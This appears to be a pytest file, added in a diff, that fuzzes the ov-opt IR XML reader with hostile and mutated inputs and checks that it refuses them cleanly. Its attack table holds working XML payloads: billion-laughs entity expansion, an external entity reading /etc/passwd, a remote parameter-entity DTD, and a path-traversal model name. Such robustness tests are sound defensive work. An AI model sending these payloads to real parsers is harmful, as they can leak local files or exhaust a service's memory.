@@ -1,0 +1,110 @@
+"""Hostile and broken IR XML never crashes the reader: every input ends with exit status 0 and
+both output files, or exit status 1, one `ov-opt: error:` line and no output file. The inputs
+are XML attacks (entity expansion, external entities, huge attribute values, deep nesting) and
+mutations of a real IR (truncations, byte flips, huge dims, negative and out-of-range offsets)."""
+
+import io
+import random
+import time
+from contextlib import redirect_stderr
+from pathlib import Path
+
+import pytest
+
+from ovopt.tools.ov_opt import main as ov_opt
+
+CONV = Path(__file__).parent / "Inputs" / "conv.xml"
+TEXT = CONV.read_text()
+
+
+def run(tmp_path: Path, xml_text: str | bytes, name: str = "model.xml") -> tuple[int, str]:
+    """ov-opt on the IR (with conv.bin beside it): its status and stderr; checks the outcome."""
+    source = tmp_path / "in" / name
+    source.parent.mkdir(parents=True, exist_ok=True)
+    source.write_bytes(xml_text.encode() if isinstance(xml_text, str) else xml_text)
+    source.with_suffix(".bin").write_bytes(CONV.with_suffix(".bin").read_bytes())
+    out = tmp_path / "out"
+    out.mkdir(exist_ok=True)
+    errors = io.StringIO()
+    with redirect_stderr(errors):
+        code = ov_opt([str(source), "-t", "ir", "-o", str(out / "again.xml")])
+    left = sorted(p.name for p in out.iterdir())
+    message = errors.getvalue()
+    if code == 0:
+        assert left == ["again.bin", "again.xml"], left
+    else:
+        assert code == 1
+        assert left == [], left
+        assert message.startswith("ov-opt: error: ") and message.count("\n") == 1, message
+        assert "Traceback" not in message
+    for path in out.iterdir():
+        path.unlink()
+    return code, message
+
+
+def laughs(levels: int = 10) -> str:
+    entities = '<!ENTITY l0 "lol">' + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, levels))
+    return TEXT.replace('<net name="tiny_conv"', f'<!DOCTYPE net [{entities}]><net name="&l{levels - 1};"')
+
+
+ATTACKS = {
+    "billion laughs": laughs(),
+    "external entity": TEXT.replace(
+        '<net name="tiny_conv"', '<!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]><net name="&x;"'
+    ),
+    "parameter entity": TEXT.replace(
+        '<net name="tiny_conv"', '<!DOCTYPE net [<!ENTITY % p SYSTEM "http://example.com/x.dtd"> %p;]><net name="n"'
+    ),
+    "huge attribute value": TEXT.replace('name="conv"', f'name="{"c" * (12 << 20)}"'),
+    "huge attribute list": TEXT.replace('strides="1, 1"', f'strides="{", ".join(["1"] * 300_000)}"'),
+    "deep nesting": TEXT.replace("<data auto_broadcast", "<a>" * 5000 + "</a>" * 5000 + "<data auto_broadcast"),
+    "huge dim": TEXT.replace("<dim>4</dim>", "<dim>99999999999999999999999</dim>"),
+    "huge const": TEXT.replace('shape="3, 2, 1, 1"', 'shape="4294967296, 4294967296, 1, 1"'),
+    "negative size": TEXT.replace('size="24"', 'size="-24"'),
+    "offset past the end": TEXT.replace('offset="24"', 'offset="9223372036854775807"'),
+    "name with path separators": TEXT.replace('name="tiny_conv"', 'name="../../etc/passwd"'),
+    "empty": "",
+    "not xml": "\x00\x01\x02binary",
+    "utf-16 with a doctype": (
+        '<?xml version="1.0" encoding="UTF-16"?>' + laughs(3)[laughs(3).index("<!DOCTYPE") :]
+    ).encode("utf-16"),
+}
+
+
+@pytest.mark.parametrize("name", ATTACKS)
+def test_attack_is_refused_or_harmless(tmp_path, name):
+    start = time.perf_counter()
+    code, message = run(tmp_path, ATTACKS[name])
+    assert time.perf_counter() - start < 30, "an attack must not make the reader work for long"
+    if "entity" in name or "laughs" in name or "doctype" in name:
+        assert code == 1 and ("DTD" in message or "XML" in message), message
+
+
+def mutations(seed: int, count: int):
+    """Truncations, byte flips, deleted and duplicated lines of conv.xml."""
+    rng = random.Random(seed)
+    data = TEXT.encode()
+    lines = TEXT.splitlines(keepends=True)
+    for index in range(count):
+        kind = index % 4
+        if kind == 0:
+            yield "truncated", data[: rng.randrange(len(data))]
+        elif kind == 1:
+            flipped = bytearray(data)
+            for _ in range(rng.randint(1, 4)):
+                flipped[rng.randrange(len(flipped))] ^= 1 << rng.randrange(8)
+            yield "bit flip", bytes(flipped)
+        elif kind == 2:
+            cut = rng.randrange(len(lines))
+            yield "line deleted", "".join(lines[:cut] + lines[cut + 1 :]).encode()
+        else:
+            copy = rng.randrange(len(lines))
+            yield "line duplicated", "".join(lines[: copy + 1] + lines[copy:]).encode()
+
+
+def test_mutated_ir_is_refused_or_converted(tmp_path):
+    outcomes = {0: 0, 1: 0}
+    for _, data in mutations(seed=11, count=200):
+        code, _ = run(tmp_path, data)
+        outcomes[code] += 1
+    assert outcomes[1] > 0 and outcomes[0] > 0, outcomes  # both ends are reached: the inputs vary
